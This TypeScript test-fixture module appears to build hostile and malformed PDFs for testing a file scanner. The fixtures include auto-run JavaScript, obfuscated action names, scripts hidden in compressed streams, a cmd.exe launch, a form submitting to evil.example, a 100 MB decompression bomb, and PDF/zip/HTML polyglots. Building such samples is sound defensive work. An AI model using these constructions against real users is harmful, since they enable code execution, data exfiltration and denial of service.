import { deflateSync } from 'node:zlib';
import { archive } from './archives';
import { file, page, script, types, type HostileFile } from './hostile-file';

type Parts = {
  /** Entries of the catalogue. */
  catalogue?: string;
  /** More objects, whole, from number 4 on. */
  objects?: readonly (string | Buffer)[];
  /** Entries of the trailer. */
  trailer?: string;
};

/** A PDF of one empty page, with whatever is put into it. */
export function pdf({ catalogue = '', objects = [], trailer = '' }: Parts = {}): Buffer {
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    ...objects,
  ];
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\u00e2\u00e3\n')];
  const offsets: number[] = [];
  for (const [i, object] of all.entries()) {
    offsets.push(sizeOf(parts));
    const content = typeof object === 'string' ? Buffer.from(object) : object;
    parts.push(Buffer.from(`${String(i + 1)} 0 obj\n`), content, Buffer.from('\nendobj\n'));
  }
  const at = sizeOf(parts);
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const count = String(all.length + 1);
  return Buffer.concat([
    ...parts,
    Buffer.from(`xref\n0 ${count}\n0000000000 65535 f \n${table}`),
    Buffer.from(`trailer\n<< /Size ${count} /Root 1 0 R ${trailer} >>\n`),
    Buffer.from(`startxref\n${String(at)}\n%%EOF\n`),
  ]);
}

const sizeOf = (parts: readonly Buffer[]) => parts.reduce((sum, part) => sum + part.length, 0);

/** Objects packed into a stream, as every newer program writes them. */
const packed = (content: Buffer, { filter = '/FlateDecode', type = '/ObjStm' } = {}) =>
  Buffer.concat([
    Buffer.from(
      `<< /Type ${type} /N 1 /First 4 /Filter ${filter} /Length ${String(content.length)} >>\n`,
    ),
    Buffer.from('stream\n'),
    content,
    Buffer.from('\nendstream'),
  ]);

const action = `<< /S /JavaScript /JS (${script}) >>`;
const packedAction = deflateSync(`4 0 ${action}`);

/** PDFs that act by themselves, hide something, or are none. */
export async function hostilePdfs(): Promise<HostileFile[]> {
  const whole = pdf();
  const zip = await archive({ 'evil.html': page });
  const inPdf = (tries: string, parts: Parts, verdict: HostileFile['verdict'] = 'active') =>
    file('pdf', tries, pdf(parts), verdict);
  return [
    inPdf('runs a script when it is opened', { catalogue: `/OpenAction ${action}` }),
    inPdf('spells the name of its script in another way', {
      catalogue: `/OpenAction << /S /J#61vaScr#69pt /JS (${script}) >>`,
    }),
    inPdf('hides its script in a packed object', { objects: [packed(packedAction)] }),
    inPdf('hides its script in a packed object of a name that is spelled differently', {
      objects: [packed(packedAction, { type: '/#4fbj#53tm' })],
    }),
    inPdf('packs its objects in a way that nobody needs', {
      objects: [packed(Buffer.from('3c3c'), { filter: '/ASCIIHexDecode' })],
    }),
    inPdf('packs its objects twice', {
      objects: [packed(packedAction, { filter: '[/ASCII85Decode /FlateDecode]' })],
    }),
    inPdf('says elsewhere how its objects are packed', {
      objects: [packed(packedAction, { filter: '9 0 R' })],
    }),
    inPdf('starts a program', { catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
    inPdf('brings a file along', { objects: ['<< /Type /EmbeddedFile >>'] }),
    inPdf('brings files along', { catalogue: '/Names << /EmbeddedFiles << /Names [] >> >>' }),
    inPdf('brings a film along', { objects: ['<< /Subtype /RichMedia >>'] }),
    inPdf('is a form with scripts', { catalogue: '/AcroForm << /XFA [] >>' }),
    inPdf('sends what is typed to another place', {
      objects: ['<< /S /SubmitForm /F (https://evil.example) >>'],
    }),
    inPdf('needs a password', { trailer: '/Encrypt 4 0 R' }, 'encrypted'),
    inPdf(
      'inflates to 100 MB',
      { objects: [packed(deflateSync(Buffer.alloc(100_000_000)))] },
      'bomb',
    ),
    file('pdf', 'is cut off before its end', whole.subarray(0, whole.length - 30), 'damaged'),
    file('pdf', 'is only a beginning', '%PDF-1.7\n', 'damaged'),
    file('pdf', 'is an archive too', Buffer.concat([whole, zip]), 'severalKinds'),
    file('pdf', 'has a page behind it', Buffer.concat([whole, Buffer.from(page)]), 'severalKinds'),
    file('pdf', 'is an archive whose comment is the end of a PDF', await both(), 'severalKinds'),
    file('pdf', 'has a page before it', Buffer.concat([Buffer.from(page), whole]), 'notWhatItSays'),
    file('pdf', 'is a program', Buffer.from('MZ\x90\0\x03', 'latin1'), 'notWhatItSays'),
    file('pdf', 'is a page', page, 'notWhatItSays'),
    file('pdf', 'is an archive', zip, 'notWhatItSays'),
    file('pdf', 'is PostScript', '%!PS-Adobe-3.0\n(x) run\n%%EOF', 'notWhatItSays'),
    { ...file('docx', 'is a PDF', whole, 'notWhatItSays') },
    { ...file('pdf', 'declares a page', whole, 'notWhatItSays'), type: 'text/html' },
    { ...file('pdf', 'declares a document', whole, 'notWhatItSays'), type: types.docx },
  ];
}

/** A PDF that holds an archive, whose own end is the comment of that archive. */
async function both(): Promise<Buffer> {
  const end = ' startxref 0 %%EOF';
  const zip = await archive({ 'evil.html': page }, { comment: end });
  return Buffer.concat([Buffer.from('%PDF-1.7\n'), zip]);
}
